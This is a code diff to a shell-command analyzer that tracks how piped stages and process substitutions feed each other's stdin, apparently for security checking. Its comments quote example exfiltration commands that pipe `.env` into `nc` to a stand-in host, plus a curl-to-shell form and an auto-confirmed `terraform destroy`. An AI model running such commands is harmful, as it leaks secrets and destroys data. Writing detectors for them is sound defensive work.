@@ -733,8 +733,7 @@ class _Walker:
                 d.upstream.extend(ups[i])
                 if d.stdin_heirs and ups[i]:
                     self.pass_stdin(d, ups[i])
-                    for f in stages[i - 1] if i > 0 else ():  # (`cat .env | bash -c 'nc h 9'`: cat feeds nc)
-                        f.downstream.extend(h.argv[0] for h in d.stdin_heirs[:8] if h.argv)
+                    self.heirs_fed(stages[i - 1] if i > 0 else [], d)  # (`cat .env | bash -c 'nc h 9'`: cat feeds nc)
                 d.downstream.extend(seen)
                 for m in d.runs_as[:8]:
                     m.downstream.extend(p for p in seen if p not in m.downstream)
@@ -955,6 +954,7 @@ class _Walker:
             return
         target.upstream.extend(d.argv[0] for d in feeders)
         self.pass_stdin(target, [d.argv[0] for d in feeders])
+        self.heirs_fed(feeders, target)
         if target.argv:
             for d in feeders:
                 d.downstream.append(target.argv[0])
@@ -977,6 +977,7 @@ class _Walker:
         feeders = [d for d in self.drafts[before:] if d.argv and d is not target]
         target.upstream.extend(d.argv[0] for d in feeders)
         self.pass_stdin(target, [d.argv[0] for d in feeders])
+        self.heirs_fed(feeders, target)
         if target.argv:
             for d in feeders:
                 d.downstream.append(target.argv[0])
@@ -1041,6 +1042,8 @@ class _Walker:
             # `sh < <(curl …)`: what those commands print is this program's stdin
             feeders = [d for d in self.drafts[before:] if d.argv and d is not target]
             target.upstream.extend(d.argv[0] for d in feeders)
+            self.pass_stdin(target, [d.argv[0] for d in feeders])  # (`bash -c 'terraform destroy' < <(yes)`)
+            self.heirs_fed(feeders, target)  # (`bash -c 'nc h 9' < <(cat .env)`)
             if target.argv:
                 for d in feeders:  # (and it is what they feed: `nc h 80 < <(cat .env)`)
                     d.downstream.append(target.argv[0])
@@ -1053,6 +1056,7 @@ class _Walker:
             if path in self.procsubs and target.stdin_text is None:
                 target.stdin_text = self.procsubs[path]
                 self.feed(target, target.stdin_text, depth)
+                self.pass_stdin(target, text=target.stdin_text)
             elif _reads_commands(target):
                 self.unknown_procsub(target, path, via)
         if op in (">&", "<&") and (path.isdigit() or path == "-"):
@@ -1650,6 +1654,13 @@ class _Walker:
                 m.sudo = True
                 m.sudo_user = m.sudo_user or inherit.sudo_user
         return made
+
+    @staticmethod
+    def heirs_fed(feeders: "list[_Draft]", target: _Draft) -> None:
+        """The commands feeding `target`'s stdin feed the readers of its `-c` script too (downstream)."""
+        names = [h.argv[0] for h in target.stdin_heirs[:8] if h.argv]
+        for f in feeders if names else ():
+            f.downstream.extend(n for n in names if n not in f.downstream)
 
     def pass_stdin(self, target: _Draft, feeders: "list[str]" = (), text: "str | None" = None,
                    path: str = "", depth: int = 0, hops: int = 0) -> None:
